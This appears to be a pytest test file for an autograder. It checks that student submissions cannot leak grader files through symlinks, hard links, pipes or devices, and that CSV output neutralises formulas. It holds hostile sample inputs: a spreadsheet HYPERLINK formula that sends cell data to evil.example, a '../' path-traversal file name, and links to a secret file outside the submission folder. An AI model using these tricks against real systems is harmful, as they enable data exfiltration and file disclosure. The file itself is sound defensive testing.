"""Reading a submission as data: links, special files, hard links and limits, without a kernel."""

from __future__ import annotations

import csv
import os
import stat
import threading

import pytest

from autograder import submission
from autograder.outputs import write_csv
from autograder.submission import Limits

SECRET = "TOP SECRET of the grader's machine"


@pytest.fixture
def layout(tmp_path):
    """SUBMITTED/alice/01/nb.ipynb with a data file, and a secret file outside SUBMITTED."""
    root = tmp_path / "submitted"
    folder = root / "alice" / "01"
    folder.mkdir(parents=True)
    (folder / "nb.ipynb").write_text('{"cells": []}')
    (folder / "data.txt").write_text("alice's data")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    return root, folder, outside


def _read(root, folder, name="nb.ipynb", limits=None):
    return submission.read(folder / name, root, limits or Limits())


def test_reads_the_notebook_and_the_files_beside_it(layout):
    """Does a plain submission come back whole: notebook bytes, data files, nothing left out?"""
    root, folder, _ = layout
    (folder / "sub").mkdir()
    (folder / "sub" / "more.txt").write_text("more")
    (folder / "scratch.ipynb").write_text("{}")
    (folder / ".ipynb_checkpoints").mkdir()
    sub = _read(root, folder)
    assert sub.notebook == b'{"cells": []}' and sub.problem == ""
    assert sub.files == {"data.txt": b"alice's data", "sub/more.txt": b"more"}
    assert sub.left_out == []


@pytest.mark.parametrize("target", ["absolute", "relative", "folder", "dangling"])
def test_links_beside_the_notebook_are_never_followed(layout, target):
    """Is a link of any kind left out with a note, and nothing of its target read?"""
    root, folder, outside = layout
    link = {"absolute": outside / "secret.txt", "relative": "../../../outside/secret.txt",
            "folder": outside, "dangling": outside / "nope"}[target]
    os.symlink(link, folder / "notes")
    sub = _read(root, folder)
    assert "notes" not in sub.files and all(SECRET.encode() not in d for d in sub.files.values())
    assert sub.left_out == ["notes: a symbolic link, not copied"]
    assert sub.files == {"data.txt": b"alice's data"}


def test_links_in_nested_folders_are_never_followed(layout):
    """Is a link deep inside a folder beside the notebook left out too?"""
    root, folder, outside = layout
    (folder / "data" / "deeper").mkdir(parents=True)
    (folder / "data" / "deeper" / "ok.txt").write_text("fine")
    os.symlink(outside / "secret.txt", folder / "data" / "deeper" / "link")
    os.symlink(outside, folder / "data" / "dir_link")
    sub = _read(root, folder)
    assert sub.files["data/deeper/ok.txt"] == b"fine"
    assert sorted(sub.left_out) == ["data/deeper/link: a symbolic link, not copied",
                                    "data/dir_link: a symbolic link, not copied"]


@pytest.mark.parametrize("level", ["notebook", "assignment folder", "student folder"])
def test_a_linked_notebook_or_folder_is_unreadable(layout, level, tmp_path):
    """Is a notebook reached through a link at any level refused, with a clear reason?"""
    root, folder, outside = layout
    (outside / "key.ipynb").write_text('{"cells": ["the answer key"]}')
    if level == "notebook":
        (folder / "nb.ipynb").unlink()
        os.symlink(outside / "key.ipynb", folder / "nb.ipynb")
        sub = _read(root, folder)
    elif level == "assignment folder":
        os.symlink(outside, root / "alice" / "02")
        sub = submission.read(root / "alice" / "02" / "key.ipynb", root, Limits())
    else:
        os.symlink(outside, root / "bob")
        (outside / "02").mkdir()
        (outside / "02" / "key.ipynb").write_text("{}")
        sub = submission.read(root / "bob" / "02" / "key.ipynb", root, Limits())
    assert sub.notebook is None and sub.files == {}
    assert "symbolic link" in sub.problem


def _within(seconds, fn):
    """fn() run in a thread; fails the test if it has not returned after `seconds` (a hang)."""
    box = {}
    thread = threading.Thread(target=lambda: box.setdefault("value", fn()), daemon=True)
    thread.start()
    thread.join(seconds)
    assert "value" in box, f"still running after {seconds} s: it hangs"
    return box["value"]


def test_a_named_pipe_is_never_opened(layout):
    """Does a FIFO beside the notebook (or as the notebook) leave the reader unblocked?"""
    root, folder, _ = layout
    os.mkfifo(folder / "pipe")
    sub = _within(10, lambda: _read(root, folder))
    assert sub.left_out == ["pipe: a named pipe, not copied"]
    os.mkfifo(folder / "fifo.ipynb")
    sub = _within(10, lambda: _read(root, folder, "fifo.ipynb"))
    assert sub.notebook is None and "named pipe" in sub.problem


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_a_device_is_never_opened(layout):
    """Is a device node (an endless /dev/zero) left out without being read?"""
    root, folder, _ = layout
    os.mknod(folder / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    sub = _within(10, lambda: _read(root, folder))
    assert sub.left_out == ["zero: a device, not copied"]


def test_a_hard_link_is_left_out(layout):
    """Is a file with a second name (it could be any file of the grader's disk) left out?"""
    root, folder, outside = layout
    os.link(outside / "secret.txt", folder / "hard.txt")
    sub = _read(root, folder)
    assert "hard.txt" not in sub.files
    assert sub.left_out == ["hard.txt: a hard link to another file, not copied"]


def test_limits_leave_files_out_and_keep_the_notebook(layout):
    """Are files over the largest-file and total limits left out, each with a reason?"""
    root, folder, _ = layout
    with open(folder / "huge.bin", "wb") as f:  # sparse: 10 GiB on paper, nothing on disk
        f.truncate(10 * 2**30)
    (folder / "a.bin").write_bytes(b"a" * 600)
    (folder / "b.bin").write_bytes(b"b" * 600)
    sub = _read(root, folder, limits=Limits(largest_file=1000, total_bytes=1000))
    assert sub.notebook is not None
    assert set(sub.files) == {"a.bin", "data.txt"}
    assert any(line.startswith("b.bin: would bring") for line in sub.left_out)
    assert any(line.startswith("huge.bin: 10240.0 MiB, over the 1,000 bytes") for line in sub.left_out)


def test_too_many_files_are_all_left_out_quickly(layout):
    """Does a folder of thousands of tiny files cost a bounded look, and copy none of them?"""
    root, folder, _ = layout
    many = folder / "many"
    many.mkdir()
    for i in range(3000):
        (many / f"{i}.txt").write_text("x")
    sub = _within(20, lambda: _read(root, folder, limits=Limits(files=500)))
    assert sub.notebook is not None
    assert not any(k.startswith("many/") for k in sub.files)
    assert "many/ holds more than 500 files and folders: none of them was copied" in sub.left_out


def test_an_oversized_notebook_is_refused(layout):
    """Is a notebook over its size limit invalid, with its size and what to do?"""
    root, folder, _ = layout
    (folder / "nb.ipynb").write_bytes(b" " * 5000)
    sub = _read(root, folder, limits=Limits(notebook_bytes=4096))
    assert sub.notebook is None and "clear its outputs" in sub.problem


@pytest.mark.skipif(os.geteuid() != 0, reason="reading as another uid needs root")
def test_root_reads_with_the_rights_of_the_submissions_owner(layout):
    """When SUBMITTED belongs to an ordinary user, is a file only root may read left out?"""
    root, folder, _ = layout
    nobody = 65534
    for path in [root, *root.rglob("*")]:
        os.chown(path, nobody, nobody)
    (folder / "root_only.txt").write_text("root's eyes only")
    os.chmod(folder / "root_only.txt", 0o600)  # owned by root: nobody may not read it
    sub = _read(root, folder)
    assert "root_only.txt" not in sub.files
    assert sub.left_out == ["root_only.txt: could not be read (Permission denied)"]
    assert sub.files["data.txt"] == b"alice's data"
    # and the thread is root again afterwards
    assert (folder / "root_only.txt").read_text() == "root's eyes only"


def test_write_files_recreates_the_folder(layout, tmp_path):
    """Are the files read written back as plain files, and nothing outside the destination?"""
    root, folder, _ = layout
    (folder / "sub").mkdir()
    (folder / "sub" / "x.txt").write_text("x")
    sub = _read(root, folder)
    sub.files["../escape.txt"] = b"no"  # a packed submission from elsewhere is checked as well
    dest = tmp_path / "dest"
    dest.mkdir()
    submission.write_files(sub, dest)
    assert sorted(str(p.relative_to(dest)) for p in dest.rglob("*")) == ["data.txt", "sub", "sub/x.txt"]
    assert not (tmp_path / "escape.txt").exists()


def test_csv_cells_are_inert_in_spreadsheets(tmp_path):
    """Does a formula in a message become text (leading apostrophe), with the text otherwise intact?"""
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
                "\tx", "\rx", "plain, with \"quotes\"\nand a new line"]
    path = tmp_path / "out.csv"
    write_csv(path, ["message", "score"], [{"message": p, "score": -1.0} for p in payloads])
    with path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    for payload, row in zip(payloads, rows, strict=True):
        expected = payload if payload.startswith("plain") else "'" + payload
        assert row["message"] == expected
        assert row["score"] == "-1.0"  # numbers stay numbers
